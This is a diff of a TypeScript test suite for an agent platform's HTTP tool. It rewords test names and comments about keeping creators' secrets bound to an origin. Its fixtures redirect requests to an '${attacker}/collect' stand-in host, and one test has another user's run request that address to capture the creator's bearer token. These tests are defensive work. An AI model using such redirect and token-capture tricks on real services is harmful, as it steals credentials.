@@ -8,7 +8,7 @@ import { inTurn, toolResults } from "../../support/scripted-llm.ts";
 const platform = useRunsPlatform();
 const call: typeof platform.gantry.call = (...args) => platform.gantry.call(...args);
 
-/** Two servers that repeat every header they get: one is the creator's service, the other one anybody's. */
+/** Two servers that echo every header: the creator's service and a foreign one. */
 const seen: { at: string; headers: IncomingHttpHeaders }[] = [];
 const service = echo("service");
 const elsewhere = echo("elsewhere");
@@ -25,7 +25,7 @@ function echo(at: string) {
     seen.push({ at, headers: request.headers });
     const { pathname } = new URL(request.url ?? "/", "http://any");
     if (pathname === "/moved") response.writeHead(302, { location: `${attacker}/collect` });
-    // A result has 64,000 bytes of the answer: this one is cut within the header.
+    // A result has 64,000 bytes of the answer, so this one is cut within the header.
     if (pathname === "/long") response.write("x".repeat(63_985) + request.headers.authorization);
     response.end(JSON.stringify(request.headers));
   });
@@ -51,7 +51,7 @@ async function create(tools: unknown, key: string) {
   return call("POST", "/v1/agents", { key, json });
 }
 
-/** As an agent that was published before fixed headers had to be bound. */
+/** Like an agent published before fixed headers needed an origin. */
 async function publishedBefore(tools: unknown, key: string): Promise<string> {
   const agent = await platform.makeAgent({ tools: ["http_request"], visibility: "public" }, key);
   await platform.gantry.database.sql`
@@ -60,7 +60,7 @@ async function publishedBefore(tools: unknown, key: string): Promise<string> {
   return agent;
 }
 
-/** What the model was answered, and everything that the run's caller can read of it. */
+/** The tool result, and everything the caller can read. */
 async function requesting(agent: string, url: string, key: string) {
   platform.llm.script = inTurn({ calls: [{ name: "http_request", args: { method: "GET", url } }] }, { text: "done" });
   const { body } = await platform.run(agent, {}, { key });
@@ -70,7 +70,7 @@ async function requesting(agent: string, url: string, key: string) {
 }
 
 describe("saving and publishing", () => {
-  test("fixed headers or a fixed body without an origin warn, and cannot be published", async () => {
+  test("fixed headers or a fixed body without an origin cause a warning and cannot be published", async () => {
     const { key } = await platform.newUser();
     for (const fixed of [{ headers: { accept: "text/plain" } }, { body: "password=1" }]) {
       const made = await create(bound({ arguments: fixed }), key);
@@ -89,7 +89,7 @@ describe("saving and publishing", () => {
     }
   });
 
-  test("a credential in clear warns; a stored secret in its place does not; one that is not stored is refused", async () => {
+  test("a plain-text credential causes a warning; a stored secret does not; an unknown secret is refused", async () => {
     const { key } = await platform.newUser();
     const literal = await create(bound({ origin, ...withToken }), key);
     expect(literal.body.warnings).toEqual([{ field: "tools", message: expect.stringContaining("{{secret:name}}") }]);
@@ -108,7 +108,7 @@ describe("saving and publishing", () => {
 
   test.each([
     ["an origin with a path", "http_request", { origin: "https://api.example.com/v1" }],
-    ["an origin that is no web address", "http_request", { origin: "ftp://api.example.com" }],
+    ["an origin that is not a web address", "http_request", { origin: "ftp://api.example.com" }],
     ["an origin of another tool", "run_javascript", { origin: "https://api.example.com" }],
     [
       "a fixed url elsewhere",
@@ -124,7 +124,7 @@ describe("saving and publishing", () => {
 });
 
 describe("a call", () => {
-  test("goes to the origin of the binding with the creator's secret, and nowhere else, redirects included", async () => {
+  test("goes only to the binding's origin with the creator's secret, also after redirects", async () => {
     const [creator, caller] = [await platform.newUser(), await platform.newUser()];
     await call("PUT", "/api/v2/secrets/crm", { key: creator.key, json: { value: token } });
     await call("PUT", "/api/v2/secrets/crm", { key: caller.key, json: { value: "another-secret-value" } });
@@ -157,7 +157,7 @@ describe("a call", () => {
     expect((await requesting(agent, origin, creator.key)).result).toContain("The secret crm is not stored");
   });
 
-  test("of an agent whose headers are not bound is made for its creator alone", async () => {
+  test("of an agent without an origin is made only for its creator", async () => {
     const [creator, caller] = [await platform.newUser(), await platform.newUser()];
     const agent = await publishedBefore(bound(withToken), creator.key);
     const refused = await requesting(agent, `${attacker}/collect`, caller.key);
@@ -168,7 +168,7 @@ describe("a call", () => {
     expect(seen).toMatchObject([{ at: "service", headers: { authorization: `Bearer ${token}` } }]);
   });
 
-  test("never sends a stored secret without an origin, and none that the model names", async () => {
+  test("never sends a stored secret without an origin, or one that the model names", async () => {
     const creator = await platform.newUser();
     await call("PUT", "/api/v2/secrets/crm", { key: creator.key, json: { value: token } });
     const unbound = await publishedBefore(bound(withSecret), creator.key);
@@ -180,7 +180,7 @@ describe("a call", () => {
     expect(seen).toMatchObject([{ headers: { authorization: "{{secret:crm}}" } }]);
   });
 
-  test("that repeats a fixed header in its answer does not show it to another user", async () => {
+  test("whose answer repeats a fixed header does not show it to another user", async () => {
     const [creator, caller] = [await platform.newUser(), await platform.newUser()];
     const agent = await platform.makeAgent(
       { tools: bound({ origin, ...withToken }), visibility: "public" },
@@ -190,9 +190,9 @@ describe("a call", () => {
     expect((await call("GET", `/v1/agents/${agent}`, { key: caller.key })).text).not.toContain(token);
   });
 
-  test("with a header that cannot be sent shows its name to its creator and to no other user", async () => {
+  test("with an invalid header names it only to its creator", async () => {
     const [creator, caller] = [await platform.newUser(), await platform.newUser()];
-    // As one that was saved before such a header was refused.
+    // Like one saved before such headers were refused.
     const tools = bound({ origin, arguments: { headers: { "bad FIXEDSECRETTOKEN999": "1" } } });
     const agent = await publishedBefore(tools, creator.key);
     const theirs = await requesting(agent, origin, caller.key);
